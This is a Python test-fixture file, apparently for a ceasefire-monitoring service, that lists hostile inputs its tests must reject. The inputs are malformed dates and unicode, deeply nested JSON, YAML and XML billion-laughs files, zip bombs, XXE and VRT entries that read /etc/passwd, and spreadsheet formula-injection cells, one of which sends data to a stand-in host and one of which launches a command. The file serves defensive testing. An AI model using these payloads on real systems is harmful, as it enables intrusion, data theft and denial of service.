"""Hostile inputs, one named case each: what an attacker (or a broken device) sends.

Every bug found with a hostile input adds its input here; the tests in this folder send each case
through the public paths (API, CLI) and require a 4xx or a per-record rejection naming the field,
never a 500, a traceback or a lost neighbour. The schemathesis run uses them as explicit examples.
"""

from __future__ import annotations

import io
import json
import math
import zipfile
from dataclasses import dataclass
from typing import Any

__all__ = [
    "BAD_AGREEMENT_VALUES",
    "BAD_CHUNK_TYPES",
    "BAD_DETECTIONS",
    "BAD_FILENAMES",
    "BAD_IMPORTS",
    "BAD_RECORDS",
    "BAD_REQUESTS",
    "BAD_REVISIONS",
    "BAD_SENSORS",
    "BAD_TUS_HEADERS",
    "BAD_UPLOADS",
    "BAD_WITHDRAWALS",
    "TEST_LIMITS",
    "BadImport",
    "BadRecord",
    "BadRequest",
    "BadUpload",
    "good_record",
]


def good_record(rid: str, **extra: Any) -> dict[str, Any]:
    """A valid incident in the test agreement's buffer zone (made here, not by the simulator)."""
    return {
        "id": rid,
        "observed_at": "2025-03-01T10:00:00Z",
        "lon": 36.95,
        "lat": 48.6,
        "kind": "armed_personnel",
        "source_type": "patrol",
        "uncertainty_m": 50,
        **extra,
    }


@dataclass(frozen=True)
class BadRecord:
    """One poison incident record: ``changes`` applied to a good one; ``field`` the one at fault."""

    name: str
    changes: dict[str, Any]
    field: str

    def record(self, rid: str) -> dict[str, Any]:
        return {**good_record(rid), **self.changes}


BAD_RECORDS = [
    BadRecord("year-1", {"observed_at": "0001-01-01T00:00:00Z"}, "observed_at"),
    BadRecord("year-1-offset", {"observed_at": "0001-01-01T00:00:00+01:00"}, "observed_at"),
    BadRecord("year-9999", {"observed_at": "9999-12-31T23:59:59Z"}, "observed_at"),
    BadRecord("year-9999-offset", {"observed_at": "9999-12-31T23:00:00-02:00"}, "observed_at"),
    BadRecord("before-1900", {"observed_at": "1899-12-31T23:59:59Z"}, "observed_at"),
    BadRecord("year-2100", {"observed_at": "2100-01-01T00:00:00Z"}, "observed_at"),
    BadRecord("surrogate-id", {"id": "\ud800x"}, "id"),
    BadRecord("low-surrogate-id", {"id": "x\udfff"}, "id"),
    BadRecord("surrogate-narrative", {"narrative": "fire \udc80 at dawn"}, "narrative"),
    BadRecord("surrogate-party", {"party": "\ud83d"}, "party"),
    BadRecord("surrogate-weapon", {"weapon_class": "art\udbff"}, "weapon_class"),
    BadRecord("surrogate-kind", {"kind": "\ud800"}, "kind"),
    BadRecord("surrogate-key", {"\ud800": 1}, "\\ud800"),
    BadRecord("nul-id", {"id": "a\x00b"}, "id"),
    BadRecord("lon-true", {"lon": True}, "lon"),
    BadRecord("lat-false", {"lat": False}, "lat"),
    BadRecord("count-true", {"count": True}, "count"),
    BadRecord("uncertainty-true", {"uncertainty_m": True}, "uncertainty_m"),
    BadRecord("lon-object", {"lon": {"deg": 36}}, "lon"),
    BadRecord("lon-huge", {"lon": 1e308}, "lon"),
    BadRecord("count-huge", {"count": 10**30}, "count"),
    BadRecord("id-huge", {"id": "x" * 100_000}, "id"),
]


@dataclass(frozen=True)
class BadRequest:
    """A request with one hostile parameter: answered 4xx naming ``field``, never 500."""

    name: str
    method: str
    path: str  # under /api/v1, or /ogc/...; already percent-encoded
    field: str
    body: Any = None
    role: str = "admin"
    raw: bytes | None = None  # sent as it is, instead of ``body`` (JSON too deep to dump)


_OGC_TIMES = [
    "9999-12-31",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59.999999Z",
    "9999-12-31T23:00:00-01:00",
    "9999-12-31/..",
    "../9999-12-31",
    "9999-12-31T23:59:59Z/..",
    "../9999-12-31T23:59:59Z",
    "2025-01-01/9999-12-31",
    "0001-01-01",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00%2B01:00",
    "0001-01-01/..",
    "../0001-01-01",
    "0001-01-01/9999-12-31",
    "0001-01-01T00:00:00%2B01:00/2025-01-01T00:00:00Z",
]
_QUERY_TIMES = [
    "0001-01-01T00:00:00%2B01:00",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-01:00",
]

TOKENS = "/api/v1/tokens"
BAD_REQUESTS = [
    *(
        BadRequest(
            f"ogc-{c}-datetime-{t}", "GET", f"/ogc/collections/{c}/items?datetime={t}", "datetime"
        )
        for c in ("incidents", "findings", "zones")
        for t in _OGC_TIMES
    ),
    *(
        BadRequest(f"{p}-{k}-{t}", "GET", f"/api/v1/{p}?{k}={t}", k)
        for p in ("incidents", "detections")
        for k in ("start", "end")
        for t in _QUERY_TIMES
    ),
    *(
        BadRequest(f"ogc-{c}-feature-{fid}", "GET", f"/ogc/collections/{c}/items/{fid}", "featureId")
        for c in ("incidents", "findings")
        for fid in ("²", "1²", "٣", "𝟙", "9" * 5000)
    ),
    # JSON nested deeper than uploads.max_depth: refused naming the body, the limit and the
    # setting, before the parser recurses (no RecursionError, no generic "error parsing the body")
    *(
        BadRequest(f"deep-json-{name}", "POST", path, "body", raw=raw)
        for name, path, raw in (
            ("array-100k", "/api/v1/incidents", b"[" * 100_000 + b"]" * 100_000),
            ("unclosed-200k", "/api/v1/incidents", b"[" * 200_000),
            (
                "object-in-record",
                "/api/v1/incidents/batch",
                b'{"records": [{"id": "deep", "narrative": '
                + b'{"a": ' * 5000
                + b"1"
                + b"}" * 5000
                + b"}]}",
            ),
            ("review-65", "/api/v1/incidents/1/review", b'{"action": ' + b"[" * 65 + b"]" * 65 + b"}"),
        )
    ),
    BadRequest(
        "review-comment-surrogate",
        "POST",
        "/api/v1/incidents/1/review",
        "comment",
        {"action": "verify", "comment": "ok \ud800"},
    ),
    BadRequest(
        "token-name-surrogate", "POST", "/api/v1/tokens", "name", {"role": "sensor", "name": "\ud800"}
    ),
    BadRequest(
        "token-party-surrogate",
        "POST",
        "/api/v1/tokens",
        "party",
        {"role": "liaison", "name": "x", "party": "\udc00"},
    ),
    BadRequest(
        "token-surrogate-key", "POST", "/api/v1/tokens", "\\ud800", {"role": "sensor", "\ud800": 1}
    ),
    BadRequest(
        "locate-year-9999",
        "POST",
        "/api/v1/acoustic/locate",
        "start",
        {"start": "9999-12-30T00:00:00Z", "end": "9999-12-31T23:59:59Z"},
    ),
    BadRequest(
        "locate-year-1-offset",
        "POST",
        "/api/v1/acoustic/locate",
        "start",
        {"start": "0001-01-01T00:00:00+01:00", "end": "0001-01-02T00:00:00Z"},
    ),
    BadRequest(
        "locate-temperature-true",
        "POST",
        "/api/v1/acoustic/locate",
        "temperature_c",
        {"start": "2025-03-01T00:00:00Z", "end": "2025-03-02T00:00:00Z", "temperature_c": True},
    ),
    BadRequest(
        "incident-lon-true", "POST", "/api/v1/incidents", "lon", {**good_record("t"), "lon": True}
    ),
    # booleans and other loose numbers where a key or a flag is expected: were read as 1 (the
    # finding, event or report with key 1) or as true
    *(
        BadRequest(name, "POST", path, field, body)
        for name, path, field, body in (
            (
                "review-finding-true",
                "/api/v1/incidents/1/review",
                "findings.0",
                {"action": "verify", "findings": [True]},
            ),
            (
                "review-finding-float",
                "/api/v1/incidents/1/review",
                "findings.0",
                {"action": "verify", "findings": [1.0]},
            ),
            (
                "review-finding-text",
                "/api/v1/incidents/1/review",
                "findings.0",
                {"action": "verify", "findings": ["1"]},
            ),
            ("merge-event-true", "/api/v1/events/merge", "events.0", {"events": [True, 2]}),
            ("split-incident-true", "/api/v1/events/1/split", "incidents.0", {"incidents": [True]}),
            ("duplicate-same-1", "/api/v1/duplicates/1/decide", "same", {"same": 1}),
            ("duplicate-same-text", "/api/v1/duplicates/1/decide", "same", {"same": "yes"}),
            (
                "release-keep-location-1",
                "/api/v1/attachments/1/release",
                "keep_location",
                {"keep_location": 1},
            ),
        )
    ),
]

#: A versioned source's revision of a stored report (ACLED's row, a later ``timestamp``), bad in
#: one field: the columns changed, and the field the reject names. The revision's reject was in
#: the answer but not in the batch's ``n_rejected`` nor its stored rejects.
BAD_REVISIONS: list[tuple[str, dict[str, str], str]] = [
    ("lat-lon-swapped", {"latitude": "36.95", "longitude": "48.61"}, "lon"),
]

#: Sensor records, each bad in one field (sent beside a good one, which must still be stored).
BAD_SENSORS: list[tuple[str, dict[str, Any], str]] = [
    ("surrogate-id", {"id": "S\ud800", "lon": 36.9, "lat": 48.6}, "id"),
    ("surrogate-network", {"id": "S-net", "network": "\udfff", "lon": 36.9, "lat": 48.6}, "network"),
    ("lon-true", {"id": "S-bool", "lon": True, "lat": 48.6}, "lon"),
    ("retired-9999", {"id": "S-r", "lon": 36.9, "lat": 48.6, "retired_at": "9999-12-31T23:59:59-01:00"},
     "retired_at"),
    ("retired-year-1", {"id": "S-r1", "lon": 36.9, "lat": 48.6, "retired_at": "0001-01-01T00:00:00Z"},
     "retired_at"),
]  # fmt: skip

#: Detection records at the sensor "S1", each bad in one field.
BAD_DETECTIONS: list[tuple[str, dict[str, Any], str]] = [
    ("arrival-9999", {"detection_id": "d9", "arrival_time": "9999-12-31T23:59:59Z"}, "arrival_time"),
    ("arrival-9999-offset", {"detection_id": "d9o", "arrival_time": "9999-12-31T23:59:59-01:00"},
     "arrival_time"),
    ("arrival-year-1", {"detection_id": "d1", "arrival_time": "0001-01-01T00:00:00Z"}, "arrival_time"),
    ("arrival-year-1-offset", {"detection_id": "d1o", "arrival_time": "0001-01-01T00:00:00+01:00"},
     "arrival_time"),
    ("surrogate-sensor", {"sensor_id": "S\ud800", "detection_id": "ds"}, "sensor_id"),
    ("surrogate-detection-id", {"detection_id": "d\udc00"}, "detection_id"),
    ("amplitude-true", {"detection_id": "da", "amplitude_db": True}, "amplitude_db"),
]  # fmt: skip

#: Rows of ACLED's deletions list (``POST /incidents/withdrawals``, ``truceline ingest
#: --deletions``), each bad in one field, sent beside a good row that must still apply.
BAD_WITHDRAWALS: list[tuple[str, dict[str, Any], str]] = [
    # were 500s: a lone surrogate or NUL in the id reached the database's IN (...) lookup
    ("id-surrogate", {"event_id_cnty": "UKR\ud800", "deleted_timestamp": "1741600000"}, "event_id_cnty"),
    ("id-nul", {"event_id_cnty": "UKR\x001", "deleted_timestamp": "1741600000"}, "event_id_cnty"),
    # were 500s: an ISO time whose UTC is outside year 1..9999 overflowed
    ("iso-9999-offset", {"event_id_cnty": "UKR2", "deleted_timestamp": "9999-12-31T23:59:59-01:00"},
     "deleted_timestamp"),
    ("iso-year-1-offset", {"event_id_cnty": "UKR3", "deleted_timestamp": "0001-01-01T00:00:00+01:00"},
     "deleted_timestamp"),
    # was accepted: a deletion dated 9999 (Unix seconds that far out were already refused)
    ("iso-9999", {"event_id_cnty": "UKR4", "deleted_timestamp": "9999-12-31T23:59:59Z"},
     "deleted_timestamp"),
    ("stamp-surrogate", {"event_id_cnty": "UKR5", "deleted_timestamp": "17416\udc80"},
     "deleted_timestamp"),
    ("stamp-nan", {"event_id_cnty": "UKR6", "deleted_timestamp": "nan"}, "deleted_timestamp"),
    ("stamp-1e308", {"event_id_cnty": "UKR7", "deleted_timestamp": 1e308}, "deleted_timestamp"),
    # were read as Unix second 1 (1970-01-01T00:00:01Z) and 0
    ("stamp-true", {"event_id_cnty": "UKR8", "deleted_timestamp": True}, "deleted_timestamp"),
    ("stamp-false", {"event_id_cnty": "UKR9", "deleted_timestamp": False}, "deleted_timestamp"),
]  # fmt: skip

#: tus ``POST /incidents/{pk}/uploads`` headers, each bad in one (sent as raw bytes, as a client
#: may): a 4xx naming the header. The non-ASCII metadata was a 500.
BAD_TUS_HEADERS: list[tuple[str, dict[str, bytes], str]] = [
    ("metadata-latin-1", {"Upload-Length": b"10", "Upload-Metadata": "filename é".encode("latin-1")},
     "Upload-Metadata"),
    ("metadata-utf-8", {"Upload-Length": b"10", "Upload-Metadata": "filename ж".encode()},
     "Upload-Metadata"),
    ("metadata-not-base64", {"Upload-Length": b"10", "Upload-Metadata": b"filename ***"},
     "Upload-Metadata"),
    ("metadata-surrogate", {"Upload-Length": b"10", "Upload-Metadata": b"filename 7aCA"},
     "Upload-Metadata"),  # base64 of ED A0 80, a UTF-8-encoded lone surrogate
    ("length-arabic-digits", {"Upload-Length": "١٢".encode()}, "upload-length"),
    ("length-negative", {"Upload-Length": b"-1"}, "upload-length"),
    ("length-2-to-the-63", {"Upload-Length": str(2**63).encode()}, "upload-length"),
]  # fmt: skip

#: Content-Types a tus chunk (``PATCH /uploads/{id}``) was accepted as: a 415 naming the header
#: (None: no Content-Type at all). Only application/offset+octet-stream is a chunk.
BAD_CHUNK_TYPES: list[tuple[str, str | None]] = [
    ("json", "application/json"),
    ("form", "application/x-www-form-urlencoded"),
    ("multipart", "multipart/form-data; boundary=B"),
    ("octet-stream", "application/octet-stream"),
    ("text", "text/plain; charset=utf-8"),
    ("prefix", "application/offset+octet-stream-x"),
    ("none", None),
]

#: Attachment file names (multipart and tus) and how each is stored and shown: control
#: characters (a terminal escape), bidirectional overrides (``a\u202egpj.exe`` reads as
#: ``aexe.jpg``) and NUL dropped. They were stored as sent.
BAD_FILENAMES: list[tuple[str, str, str]] = [
    ("nul", "a\x00b.jpg", "ab.jpg"),
    ("terminal-escape", "a\x1b[31mred.jpg", "a[31mred.jpg"),
    ("new-line", "a\r\nb.jpg", "ab.jpg"),
    ("right-to-left-override", "photo\u202egpj.exe", "photogpj.exe"),
    ("isolates", "\u2066x\u2069.jpg", "x.jpg"),
    ("c1-control", "a\x9bb.jpg", "ab.jpg"),
]

#: Text a sensor may plant to run in an analyst's spreadsheet (OWASP CSV injection), and how each
#: cell must read in an export (a leading ' makes it text).
FORMULA_CELLS = [
    ('=HYPERLINK("http://x.invalid/?"&A1,"click")', '\'=HYPERLINK("http://x.invalid/?"&A1,"click")'),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("=1+1\t", "'=1+1"),  # the model strips surrounding white space
    ("plain text", "plain text"),
]


# -- uploads and import files ---------------------------------------------------------------------

#: The limits the upload and import tests run under (lowered, so the hostile files stay small);
#: set through the settings (``uploads``), as a deployment would.
TEST_LIMITS: dict[str, int] = {
    "max_expanded_bytes": 4 * 1024 * 1024,
    "max_features": 200,
    "max_vertices": 5000,
    "max_import_rows": 50,
}


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _kml(body: str) -> bytes:
    return f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'.encode()


_SQUARE = "36.0,48.0 36.1,48.0 36.1,48.1 36.0,48.1 36.0,48.0"
_KML_ZONE = _kml(
    f"<Placemark><Polygon><outerBoundaryIs><LinearRing><coordinates>{_SQUARE}"
    "</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>"
)
_XML_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(8))
    + b"]><kml>&i;</kml>"
)
_XXE = b'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml>&x;</kml>'


def _yaml_laughs(levels: int, width: int) -> str:
    """`levels` anchors, each a list of `width` aliases of the one before: width**levels nodes."""
    lines = [f"l0: &l0 [{', '.join(['x'] * width)}]"]
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


def _points(n: int) -> bytes:
    feats = [
        {"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [36, 48]}}
    ] * n
    return json.dumps({"type": "FeatureCollection", "features": feats}).encode()


def _ring(n: int) -> bytes:
    ang = [2 * math.pi * k / n for k in range(n)]
    ring = [[36.5 + 0.1 * math.cos(a), 48.5 + 0.1 * math.sin(a)] for a in ang]
    return json.dumps({"type": "Polygon", "coordinates": [[*ring, ring[0]]]}).encode()


@dataclass(frozen=True)
class BadUpload:
    """An agreement upload with one hostile file: refused 4xx, the message naming ``file`` and
    holding ``says`` (the limit's setting, or what was refused)."""

    name: str
    file: str
    says: str
    content: bytes | str  # the hostile file's bytes (agreement.yaml's text: prepended to it)

    def files(self, good: dict[str, bytes]) -> dict[str, bytes]:
        """The good agreement's files with this one hostile file in: a zone's geometry file, or
        agreement.yaml itself."""
        out = dict(good)
        yml = good["agreement.yaml"].decode()
        if self.file == "agreement.yaml":
            content = self.content if isinstance(self.content, str) else self.content.decode()
            out["agreement.yaml"] = (content + yml).encode()
        else:
            out["agreement.yaml"] = yml.replace("disengagement.geojson", self.file).encode()
            out[self.file] = self.content if isinstance(self.content, bytes) else self.content.encode()
        return out


#: agreement.yaml with YAML booleans where a number is expected: were read as 1 (a link threshold
#: of 1, ...); a 422 naming the file and the field (``says``: the field's name).
BAD_AGREEMENT_VALUES = [
    BadUpload(
        "yaml-number-true", "agreement.yaml", "link_threshold", "fusion: {link_threshold: true}\n"
    ),
    BadUpload(
        "yaml-number-yes", "agreement.yaml", "position_floor_m",
        "fusion: {sources: {patrol: {position_floor_m: yes}}}\n",
    ),
]  # fmt: skip

BAD_UPLOADS = [
    BadUpload("yaml-billion-laughs", "agreement.yaml", "uploads.max_yaml_nodes", _yaml_laughs(9, 9)),
    BadUpload("yaml-ten-by-ten", "agreement.yaml", "uploads.max_yaml_nodes", _yaml_laughs(10, 10)),
    BadUpload("yaml-alias-loop", "agreement.yaml", "loop", "loop: &me [1, *me]\n"),
    BadUpload(
        "yaml-deep-flow", "agreement.yaml", "uploads.max_depth", "x: " + "[" * 5000 + "]" * 5000 + "\n"
    ),
    BadUpload(
        "yaml-deep-block",
        "agreement.yaml",
        "uploads.max_depth",
        "x:\n" + "".join(" " * (2 * i + 2) + f"k{i}:\n" for i in range(200)) + " " * 402 + "v: 1\n",
    ),
    BadUpload("geojson-deep-arrays", "zone.geojson", "uploads.max_depth", "[" * 100_000 + "]" * 100_000),
    BadUpload(
        "geojson-deep-objects", "zone.geojson", "uploads.max_depth", '{"a":' * 3000 + "1" + "}" * 3000
    ),
    BadUpload("geojson-many-features", "zone.geojson", "uploads.max_features", _points(300)),
    BadUpload("geojson-many-vertices", "zone.geojson", "uploads.max_vertices", _ring(6000)),
    BadUpload(
        "kmz-bomb-size", "zone.kmz", "uploads.max_expanded_bytes",
        _zip({"doc.kml": _KML_ZONE + b" " * (5 * 1024 * 1024)}),
    ),
    BadUpload(
        "kmz-bomb-ratio", "zone.kmz", "uploads.max_expansion_ratio",
        _zip({"doc.kml": _KML_ZONE + b" " * (3 * 1024 * 1024)}),
    ),
    BadUpload(
        "kmz-many-members", "zone.kmz", "uploads.max_archive_members",
        _zip({"doc.kml": _KML_ZONE, **{f"f{i}.png": b"" for i in range(1200)}}),
    ),
    BadUpload("kml-billion-laughs", "zone.kml", "DTD", _XML_LAUGHS),
    BadUpload("kml-external-entity", "zone.kml", "DTD", _XXE),
    BadUpload("kmz-external-entity", "zone.kmz", "DTD", _zip({"doc.kml": _XXE})),
    BadUpload(
        "kml-deep-folders", "zone.kml", "uploads.max_depth", _kml("<Folder>" * 3000 + "</Folder>" * 3000)
    ),
    BadUpload("gml-billion-laughs", "zone.gml", "DTD", _XML_LAUGHS),
    BadUpload("gpx-external-entity", "zone.gpx", "DTD", _XXE),
    BadUpload(
        "vrt-names-a-server-file",
        "zone.vrt",
        "VRT",
        b'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/etc/passwd</SrcDataSource>'
        b"</OGRVRTLayer></OGRVRTDataSource>",
    ),
    BadUpload(
        "zip-bomb-for-gdal", "zone.zip", "uploads.max_expanded_bytes",
        _zip({"zone.gpkg": b"\0" * (5 * 1024 * 1024)}),
    ),
]  # fmt: skip


@dataclass(frozen=True)
class BadImport:
    """An incident import file that must be refused whole (exit 2), the message holding ``says``."""

    name: str
    suffix: str
    says: str
    content: bytes


_CSV_HEAD = b"id,observed_at,lon,lat,kind,source_type\n"
_CSV_ROW = b"r%d,2025-03-01T10:00:00Z,36.95,48.6,armed_personnel,patrol\n"

BAD_IMPORTS = [
    BadImport("csv-huge-cell", ".csv", "uploads.max_csv_cell_chars",
              _CSV_HEAD + b'x,2025-03-01T10:00:00Z,36.95,48.6,"' + b"a" * 200_000 + b'",patrol\n'),
    BadImport("csv-unclosed-quote", ".csv", "uploads.max_csv_cell_chars",
              _CSV_HEAD + b'x,"2025-03-01' + b"\nr,2025-03-01T10:00:00Z,36.95,48.6,a,b" * 5000),
    BadImport("csv-too-many-rows", ".csv", "uploads.max_import_rows",
              _CSV_HEAD + b"".join(_CSV_ROW % i for i in range(60))),
    BadImport("geojson-deep", ".geojson", "uploads.max_depth", b"[" * 100_000 + b"]" * 100_000),
    BadImport("geojson-too-many", ".geojson", "uploads.max_import_rows", _points(60)),
    BadImport("kml-billion-laughs", ".kml", "DTD", _XML_LAUGHS),
    BadImport("kmz-bomb", ".kmz", "uploads.max_expanded_bytes",
              _zip({"doc.kml": _KML_ZONE + b" " * (5 * 1024 * 1024)})),
]  # fmt: skip
